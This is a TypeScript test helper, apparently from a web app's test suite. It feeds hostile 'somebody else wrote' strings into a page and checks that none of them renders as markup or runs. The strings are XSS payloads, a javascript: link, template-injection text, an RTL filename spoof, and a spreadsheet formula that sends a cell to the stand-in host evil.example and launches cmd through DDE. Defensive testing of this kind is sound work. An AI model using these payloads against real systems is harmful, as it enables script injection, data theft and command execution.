/** Text that somebody else wrote, and how a page must show it. */
import type { WatchedPage } from './watched-page.js';

/** By their kind. The first runs where a browser takes it for markup, in an element, an attribute or a script. */
export const hostileTexts = {
  markup: `markup'"><img src=x onerror=owned=1><script>owned=1</script>`,
  link: 'javascript:owned=1//',
  template: '{{owned=1}}${owned=1}',
  formula: `=HYPERLINK("https://evil.example/?"&A1,"total")+cmd|'/c calc'!A0`,
  // Reads as "invoiceexe.png" where the direction of one text reaches into the next.
  rightToLeft: 'invoice\u202egnp.exe\u2066 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627',
  long: 'W'.repeat(3_000),
} as const;

/** Fails if something of it became an element or ran. */
export async function expectText(watched: WatchedPage): Promise<void> {
  const found = await watched.value<unknown>(`({
    ran: typeof owned,
    elements: document.querySelectorAll(
      'img[src="x"], [onerror], script:not([src]), a[href^="javascript:"]').length,
  })`);
  expect(found).toEqual({ ran: 'undefined', elements: 0 });
  watched.expectQuiet();
}
